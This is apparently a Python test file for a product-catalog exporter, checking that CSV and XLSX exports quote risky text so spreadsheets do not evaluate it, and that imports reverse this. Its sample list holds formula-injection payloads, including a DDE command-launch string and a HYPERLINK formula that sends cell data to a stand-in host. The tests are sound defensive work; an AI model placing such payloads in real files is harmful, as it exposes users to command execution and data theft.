"""Formula injection: what a CSV or XLSX export writes for text a spreadsheet would evaluate,
and that the import undoes exactly that (OWASP "CSV injection")."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from edge.domain.catalog import CatalogRow
from edge.domain.spreadsheet import protect, unprotect
from edge.errors import UnreadableFile
from edge.fileio import export_catalog, parse_catalog

NASTY = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"点这里")',
    "+86 138 0000 0000 手机壳",
    "-10% 特价 毛巾",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1 全角",
    "'引号开头",
    "'=已经有引号",
    "普通 商品",
]


@pytest.mark.parametrize(("text", "written"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("＝1", "'＝1"), ("'x", "''x"), ("''", "'''"), ("'=x", "''=x"),
    ("x=1", "x=1"), ("", ""), ("杯子", "杯子"), ("1-2", "1-2"),
])
def test_protect_writes_risky_text_after_a_quote(text: str, written: str) -> None:
    assert protect(text) == written
    assert unprotect(written) == text


@pytest.mark.parametrize("text", ["'x", "'", "'1", "x'", "''x"[1:]])
def test_unprotect_leaves_a_quote_it_did_not_add(text: str) -> None:
    assert unprotect(text) == text


@given(st.text())
def test_unprotect_undoes_protect(text: str) -> None:
    assert unprotect(protect(text)) == text


def rows() -> list[CatalogRow]:
    return [CatalogRow(line=i + 2, sku=f"SKU-{i}", name_zh=name, name_en=None, spec="-", unit_weight_g=10,
                       length_mm=None, width_mm=None, height_mm=None, cost_fen=None, image_path=None,
                       default_location=None, barcodes=())
            for i, name in enumerate(NASTY)]


def test_csv_export_writes_formulas_as_text(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    export_catalog(rows(), path)
    lines = path.read_bytes().decode("utf-8-sig").split("\r\n")
    assert lines[1] == "SKU-0,'=cmd|' /C calc'!A0,,'-,10,,,,,,,,"
    assert lines[2] == '''SKU-1,"'=HYPERLINK(""http://evil.example/?x=""&A1,""点这里"")",,'-,10,,,,,,,,'''
    assert lines[3].startswith("SKU-2,'+86 138")
    assert lines[4].startswith("SKU-3,'-10% 特价")
    assert lines[5].startswith("SKU-4,'@SUM(")
    assert lines[6].startswith("SKU-5,'\t=1+1,")
    assert lines[7].startswith("SKU-6,'＝1+1")
    assert lines[8].startswith("SKU-7,''引号开头,")
    assert lines[9].startswith("SKU-8,''=已经有引号,")
    assert lines[10].startswith("SKU-9,普通 商品,")
    for line in lines[1:-1]:  # no cell of the file begins with a formula character
        assert not re.search(r"(^|,)\"?[=+\-@\t\r＝]", line), line


def test_xlsx_export_has_typed_strings_and_no_formula(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    export_catalog(rows(), path)
    with zipfile.ZipFile(path) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
        styles = z.read("xl/styles.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    cells = re.findall(r'<c r="B(\d+)"( s="(\d+)")? t="(\w+)"><is><t[^>]*>(.*?)</t></is></c>', sheet, re.S)
    assert [(c[3], c[4]) for c in cells[1:3]] == [
        ("inlineStr", "=cmd|' /C calc'!A0"),
        ("inlineStr", '=HYPERLINK("http://evil.example/?x="&amp;A1,"点这里")'),
    ]
    assert len(cells) == 1 + len(NASTY) and all(c[3] == "inlineStr" for c in cells)
    # the risky ones carry Excel's quote prefix (so editing the cell keeps it text), the others not
    xfs = re.findall(r"<xf [^>]*?(?:/>|>.*?</xf>)", styles.split("<cellXfs")[1], re.S)
    quoted = {str(i) for i, xf in enumerate(xfs) if 'quotePrefix="1"' in xf}
    assert [c[2] in quoted for c in cells[1:]] == [True] * 7 + [False] * 3


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_risky_names_round_trip(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"out{suffix}"
    export_catalog(rows(), path)
    back = parse_catalog(path).rows
    # a leading tab is whitespace, which the import trims from every cell
    assert [r.name_zh for r in back] == [n.strip() for n in NASTY]
    assert {r.spec for r in back} == {"-"}


def formula_workbook(path: Path, cached: str | None) -> Path:
    """A sheet whose C2 is the formula 1+2, with or without the value Excel caches, as a
    program writes it (the XML by hand: openpyxl never writes a cached value)."""
    value = "" if cached is None else f"<v>{cached}</v>"
    sheet = ('<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
             '<row r="1"><c r="A1" t="inlineStr"><is><t>商品编码</t></is></c>'
             '<c r="B1" t="inlineStr"><is><t>商品名称</t></is></c>'
             '<c r="C1" t="inlineStr"><is><t>重量(g)</t></is></c></row>'
             '<row r="2"><c r="A2" t="inlineStr"><is><t>SKU-1</t></is></c>'
             '<c r="B2" t="inlineStr"><is><t>杯子</t></is></c>'
             f'<c r="C2"><f>1+2</f>{value}</c></row></sheetData></worksheet>')
    ns = "http://schemas.openxmlformats.org"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("[Content_Types].xml", (
            f'<Types xmlns="{ns}/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
            'spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'))
        z.writestr("_rels/.rels", (
            f'<Relationships xmlns="{ns}/package/2006/relationships"><Relationship Id="rId1" '
            f'Type="{ns}/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
            '</Relationships>'))
        z.writestr("xl/workbook.xml", (
            f'<workbook xmlns="{ns}/spreadsheetml/2006/main" xmlns:r="{ns}/officeDocument/2006/relationships">'
            '<sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>'))
        z.writestr("xl/_rels/workbook.xml.rels", (
            f'<Relationships xmlns="{ns}/package/2006/relationships"><Relationship Id="rId1" '
            f'Type="{ns}/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
            '</Relationships>'))
        z.writestr("xl/worksheets/sheet1.xml", sheet)
    return path


def test_a_formula_without_a_cached_value_is_refused_with_its_line(tmp_path: Path) -> None:
    with pytest.raises(UnreadableFile, match=r"^第 2 行: .* C2 / line 2: formula cells without a cached value"):
        parse_catalog(formula_workbook(tmp_path / "f.xlsx", None))


def test_a_formula_counts_with_its_cached_value(tmp_path: Path) -> None:
    [row] = parse_catalog(formula_workbook(tmp_path / "f.xlsx", "3")).rows
    assert (row.sku, row.name_zh, row.unit_weight_g) == ("SKU-1", "杯子", 3)
